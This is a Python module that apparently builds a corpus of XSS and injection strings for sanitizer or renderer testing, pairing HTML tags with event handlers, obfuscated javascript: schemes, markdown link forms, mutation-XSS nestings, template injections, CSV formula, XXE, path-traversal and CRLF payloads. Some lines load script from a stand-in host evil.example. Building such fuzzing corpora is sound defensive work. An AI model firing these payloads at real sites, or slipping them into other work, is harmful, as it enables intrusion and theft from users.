"""Strings that became script somewhere once: families of tags, events, spellings and contexts, multiplied out."""

from collections.abc import Iterator
from itertools import product

# What is called if one of them runs; the page counts the calls.
CALLS = ("hit(1)", "alert(1)", "top['hit'](1)", "hit`1`", "import('//evil.example/x.js')")
TAGS = (
    *("img src=x", "svg", "body", "details open", "video src=x", "audio src=x", "input autofocus", "marquee"),
    *(
        "iframe",
        "math",
        "select autofocus",
        "textarea autofocus",
        "object data=x",
        "a href=#",
        "button autofocus",
    ),
    *("form", "p", "x", "dialog open", "image src=x"),
)
EVENTS = (
    *("onerror", "onload", "onclick", "onmouseover", "onfocus", "ontoggle", "onstart", "onanimationstart"),
    *("onpointerenter", "onbeforetoggle", "onmouseenter", "onwheel", "onanimationend"),
)
# Where the name of an element ends and its attributes begin is a matter of taste among parsers.
SHAPES = (
    "<{tag} {event}={call}>",
    '<{tag} {event}="{call}">',
    "<{tag}/{event}={call}//",
    "<{tag}\n{event}\n=\n'{call}'>",
    "<{tag} x='>' {event}={call}>",
)
SCHEMES = (
    *("javascript:", "JaVaScRiPt:", " javascript:", "java\tscript:", "java\nscript:", "java\x01script:"),
    *("\x01javascript:", "javascript&#58;", "javascript&colon;", "java&Tab;script:", "java&NewLine;script:"),
    *("&#106;avascript:", "&#x6A;avascript:", "&#0000106avascript:", "javascript%3A", "\\javascript:"),
    *(
        "javascript\\:",
        "vbscript:",
        "data:text/html,<script>",
        "data:text/html;base64,PHNjcmlwdD5oaXQoMSk8L3NjcmlwdD4=",
    ),
    *(
        "data:image/svg+xml,<svg onload=",
        "feed:javascript:",
        "view-source:javascript:",
        "blob:",
        "//evil.example/",
    ),
    *("/\\evil.example/", "https:evil.example/", "ｊavascript:", "java\u200bscript:", "java\u202escript:"),
    *("jav&#x09;ascript:", "&#1;javascript:", "javascript://%0a", "javascript:/**/", "\u3000javascript:"),
)
ROADS = (
    *("{0}", "[click]({0})", "[click](<{0}>)", '[click]({0} "title")', "![alt]({0})", "[![a]({0})]({0})"),
    *(
        "[click][r]\n\n[r]: {0}",
        "![r]\n\n[r]: {0} 'x'",
        "<{0}>",
        "a|b\n-|-\n[c]({0})|{0}",
        "x[^1]\n\n[^1]: [c]({0})",
    ),
    *(
        "# [c]({0})",
        "- [ ] [c]({0})",
        "<a href='{0}'>x</a>",
        "<form action={0}><button>x",
        "<svg><a xlink:href={0}><text>x",
    ),
)
BREAKS = (
    *(
        '">',
        "'>",
        "`>",
        "</title>",
        "</textarea>",
        "</script>",
        "</style>",
        "-->",
        "--!>",
        "]]>",
        "</code></pre>",
    ),
    *(
        "</svg>",
        "</select>",
        "</noscript>",
        "</template>",
        "</xmp>",
        "</iframe>",
        "</p></article>",
        "<!--",
        "<![CDATA[",
    ),
    *('" ', "' ", '\\">', "&quot;>", "&#34;>", '\u2028">'),
)
LIVE = (
    *("<script>hit(1)</script>", "<script src=//evil.example/x.js></script>", "<img src=x onerror=hit(1)>"),
    *(
        "<svg onload=hit(1)>",
        "<iframe srcdoc='<script>parent.hit(1)</script>'>",
        "<base href=//evil.example/>",
    ),
    *(
        "<meta http-equiv=refresh content='0;url=//evil.example'>",
        "onmouseover=hit(1) autofocus onfocus=hit(1) x=",
    ),
    *(
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<object data=javascript:hit(1)>",
        "<style>@import '//evil.example'",
    ),
    "<img src=//evil.example/beacon>",
)
MARKDOWN = (
    *(
        "`{0}`",
        "```html\n{0}\n```",
        "```{0}\nx\n```",
        '```python title="{0}"\nx\n```',
        "``` {{.python onclick={0}}}\nx\n```",
    ),
    *(
        "# {0}",
        "{0}\n===",
        "[{0}](/a)",
        "![{0}](/a)",
        '[x][r]\n\n[r]: /a "{0}"',
        "x[^{0}]\n\n[^{0}]: note",
        "> {0}",
    ),
    *(
        "{0}|b\n-|-\nc|d",
        "term\n: {0}",
        "***{0}***",
        "para\n{{: onclick={0} }}",
        "[x](/a){{: onclick={0}}}",
        "    {0}",
    ),
    *(
        "- [x] {0}",
        "[{0}]: /a\n\n[{0}]",
        "<{0}@x.y>",
        "<http://a{0}>",
        "https://a.example/{0}",
        "\\{0}",
        "*[{0}]: x",
    ),
)
MUTATING = (
    '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=hit(1)>">',
    '<svg></p><style><a id="</style><img src=x onerror=hit(1)>">',
    '<noscript><p title="</noscript><img src=x onerror=hit(1)>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=hit(1)>",
    '<svg><![CDATA[><img title="]]><img src=x onerror=hit(1)>">',
    "<math><annotation-xml encoding='text/html'><img src=x onerror=hit(1)>",
    "<svg><foreignObject><iframe srcdoc='<svg onload=parent.hit(1)>'>",
    "<svg><animate onbegin=hit(1) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:hit(1)><a id=x>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=hit(1)>#x'>",
    "<select><template><script>hit(1)</script></template></select>",
    "<table><td background=javascript:hit(1)><caption><img src=x onerror=hit(1)>",
    "<xmp><p title='</xmp><img src=x onerror=hit(1)>'>",
    "<textarea><img title='</textarea><img src=x onerror=hit(1)>'>",
    "<svg><desc><table><thead><s></table></s><img src=x onerror=hit(1)>",
    "<div id=x style=width:expression(hit(1))>",
    "<p style='background:url(//evil.example/x);animation-name:x' onanimationstart=hit(1)>",
    "<style>*{background:url(javascript:hit(1))}</style>",
)
WRAPPERS = ("{0}", "text {0} text", "`a` {0}", "> - {0}", "# {0}", "a|b\n-|-\n{0}|c")
TEMPLATES = (
    *(
        "{{7*7}}",
        "{{constructor.constructor('hit(1)')()}}",
        "${hit(1)}",
        "#{hit(1)}",
        "<%= hit(1) %>",
        "{%raw%}<script>",
    ),
    *(
        "{{ config }}",
        "{{''.__class__}}",
        "[[${hit(1)}]]",
        "@{hit(1)}",
        "{php}hit(1){/php}",
        "{{=hit(1)}}",
        "%s%n%x",
        "{0}",
    ),
)
INVISIBLE = ("\x00", "\x01", "\x08", "\x0b", "\x0c", "\x1b", "\x7f", "\x85", "\xa0", "\xad", "\u200b", "\u200d", "\u2028",
             "\u2029", "\u202e", "\u2066", "\ufeff", "\ufffe", "\ufff9", "\U000e0041")  # fmt: skip
BASES = ("<scr{0}ipt>hit(1)</scr{0}ipt>", "<img src=x on{0}error=hit(1)>", "<{0}svg onload=hit(1)>", "<svg{0}onload=hit(1)>",
         "<img src=x onerror={0}hit(1)>", "[x](java{0}script:hit(1))", "＜{0}script＞hit(1)＜/script＞",
         "<a href={0}javascript:hit(1)>x</a>")  # fmt: skip
OTHERS = (
    *("=cmd|'/C calc'!A0", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", '=HYPERLINK("//evil.example","x")'),
    *(
        "<?xml-stylesheet href='//evil.example/x.xsl'?>",
        "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
    ),
    *(
        "]]><script xmlns='http://www.w3.org/1999/xhtml'>hit(1)</script>",
        "</summary><x:script xmlns:x='http://www.w3.org/1999/xhtml'>hit(1)</x:script>",
    ),
    *(
        "&lt;script&gt;hit(1)&lt;/script&gt;",
        "&amp;lt;script&amp;gt;hit(1)",
        "\\u003cscript\\u003ehit(1)",
        "%3Cscript%3Ehit(1)",
    ),
    *(
        "+ADw-script+AD4-hit(1)+ADw-/script+AD4-",
        "\\x3cscript\\x3ehit(1)",
        "../../../../etc/passwd",
        "a\r\nSet-Cookie: hit=1",
    ),
)


def _families() -> Iterator[Iterator[str]]:
    yield (
        shape.format(tag=tag, event=event, call="hit(1)")
        for tag, event, shape in product(TAGS, EVENTS, SHAPES)
    )
    yield (f"<{tag} onfocus={call} onerror={call} onload={call}>" for tag, call in product(TAGS, CALLS))
    yield (road.format(f"{scheme}hit(1)") for scheme, road in product(SCHEMES, ROADS))
    yield (f"{opened}{live}" for opened, live in product(BREAKS, LIVE))
    yield (road.format(live) for road, live in product(MARKDOWN, LIVE))
    yield (wrapper.format(text) for wrapper, text in product(WRAPPERS, MUTATING))
    yield (
        f"{before}{text}{after}"
        for text in TEMPLATES
        for before, after in (("", ""), ("`", "`"), ("<b>", "</b>"))
    )
    yield (base.format(hidden) for base, hidden in product(BASES, INVISIBLE))
    yield iter(OTHERS)
    yield (f"{text.upper()}" for text in LIVE)
    yield (f"{brk}{brk}{call}" for brk, call in product(BREAKS, CALLS))


def strings(most: int | None = None) -> list[str]:
    """All of them, each once; or `most` of them, taken from every family in turn."""
    families = [list(dict.fromkeys(family)) for family in _families()]
    if most is None:
        return list(dict.fromkeys(text for family in families for text in family))
    chosen: list[str] = []
    share = most // len(families) + 1
    for family in families:
        step = max(1, len(family) // share)
        chosen += family[::step][:share]
    return list(dict.fromkeys(chosen))[:most]
